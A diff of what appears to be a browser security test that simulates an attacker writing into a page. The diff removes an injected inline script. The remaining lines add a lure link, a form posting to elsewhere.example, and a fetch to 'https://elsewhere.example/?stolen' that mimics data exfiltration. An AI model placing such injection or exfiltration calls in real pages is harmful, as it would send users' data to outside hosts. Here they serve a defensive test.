@@ -30,9 +30,6 @@ test.describe('whoever could write into a page', () => {
         <object data="/page.png"></object>
         <form id="form" action="https://elsewhere.example/"></form>`;
       document.body.append(written);
-      const inline = document.createElement('script');
-      inline.textContent = "window.ran = 'inline'";
-      document.body.append(inline);
       document.querySelector<HTMLAnchorElement>('#lure')?.click();
       document.querySelector<HTMLFormElement>('#form')?.submit();
       fetch('https://elsewhere.example/?stolen').catch(() => undefined);
